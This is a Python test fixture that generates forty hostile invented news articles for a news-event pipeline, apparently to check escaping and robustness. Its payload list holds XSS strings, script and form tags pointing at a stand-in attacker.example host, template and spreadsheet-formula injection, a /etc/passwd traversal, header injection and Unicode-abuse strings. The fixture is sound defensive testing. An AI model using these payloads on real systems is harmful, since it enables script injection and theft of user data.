"""Forty articles with hostile content: scripts, styles, text direction, length, huge numbers."""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime

import msgspec

from streams.contract.records import Count, Event, Magnitude
from tests.desk.invented_events import InventedArticle, invented_article

PAYLOADS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\">",
    "\"><script src='https://attacker.example/x.js'></script>",
    "' onmouseover='document.title=1' x='",
    "</title><script>document.title='owned'</script>",
    "</blockquote></li></ol><h1>gone</h1>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<iframe src=https://attacker.example></iframe>",
    "<base href=https://attacker.example>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<form action=https://attacker.example><input name=token>",
    "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7}",
    "javascript:document.title='owned'",
    "\u202egnp.exe\u202c \u2066\u2067\u2068",
    "\u202e" * 200,
    "e" + "\u0301" * 500,
    "x" * 5000,
    "\U0001f9e8" * 300,
    "&lt;script&gt;&amp;amp;&#60;script&#62;",
    "]]><!--",
    "-->",
    "\\u003cscript\\u003e",
    "data: x\n\nevent: reset\ndata: {}\n\n",
    "\x00\x01\x1b[2J\x7f",
    "\ufeff\u200b\u200d\u2028\u2029",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "%3Cscript%3E%0d%0aSet-Cookie:x=1",
    "a" * 120 + "-" * 2000,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>bold</b> \u05e2\u05d1\u05e8\u05d9\u05ea",
    "Z\u0351\u036b\u0343\u036a" * 200,
    "`${alert(1)}`",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<template><slot name=x></slot></template>",
    "onfocus=alert(1) autofocus tabindex=1",
    "\ud7ff\ue000\ufdd0",
    "<plaintext>",
)
HUGE = 2**53 - 1


def hostile_articles() -> Iterator[InventedArticle]:
    """Yield one article per payload, which is in the title, source, address, names, text and evidence sentence."""
    chance = random.Random(3)
    for number, payload in enumerate(PAYLOADS):
        made = invented_article(f"hostile-{number}", datetime(2026, 3, 18, tzinfo=UTC), chance)
        tail = f" {payload}"
        text = made.article.text + tail
        article = msgspec.structs.replace(
            made.article, title=payload, source=payload[:400], url=f"javascript:{payload[:400]}", text=text
        )
        events = [_hostile(event, text, payload, tail) for event in made.events]
        entities = [msgspec.structs.replace(entity, name=payload, role=payload) for entity in made.record.entities]
        record = msgspec.structs.replace(
            made.record, title=payload, source=article.source, url=article.url, entities=entities
        )
        yield InventedArticle(article, record, tuple(events))


def _hostile(event: Event, text: str, payload: str, tail: str) -> Event:
    last = event.evidence.sentence_start > 0
    evidence = event.evidence
    if last:
        end = evidence.sentence_end + len(tail)
        evidence = msgspec.structs.replace(evidence, sentence=text[evidence.sentence_start : end], sentence_end=end)
    people = [msgspec.structs.replace(party, name=payload, role=payload) for party in event.actors]
    count = Count(min=HUGE, max=None, text=payload, field="text", start=0, end=1)
    return msgspec.structs.replace(
        event,
        title=payload,
        source=payload[:400],
        url=f"javascript:{payload[:400]}",
        modes=[payload[:80]],
        actors=people,
        magnitude=Magnitude(killed=count),
        evidence=evidence,
    )
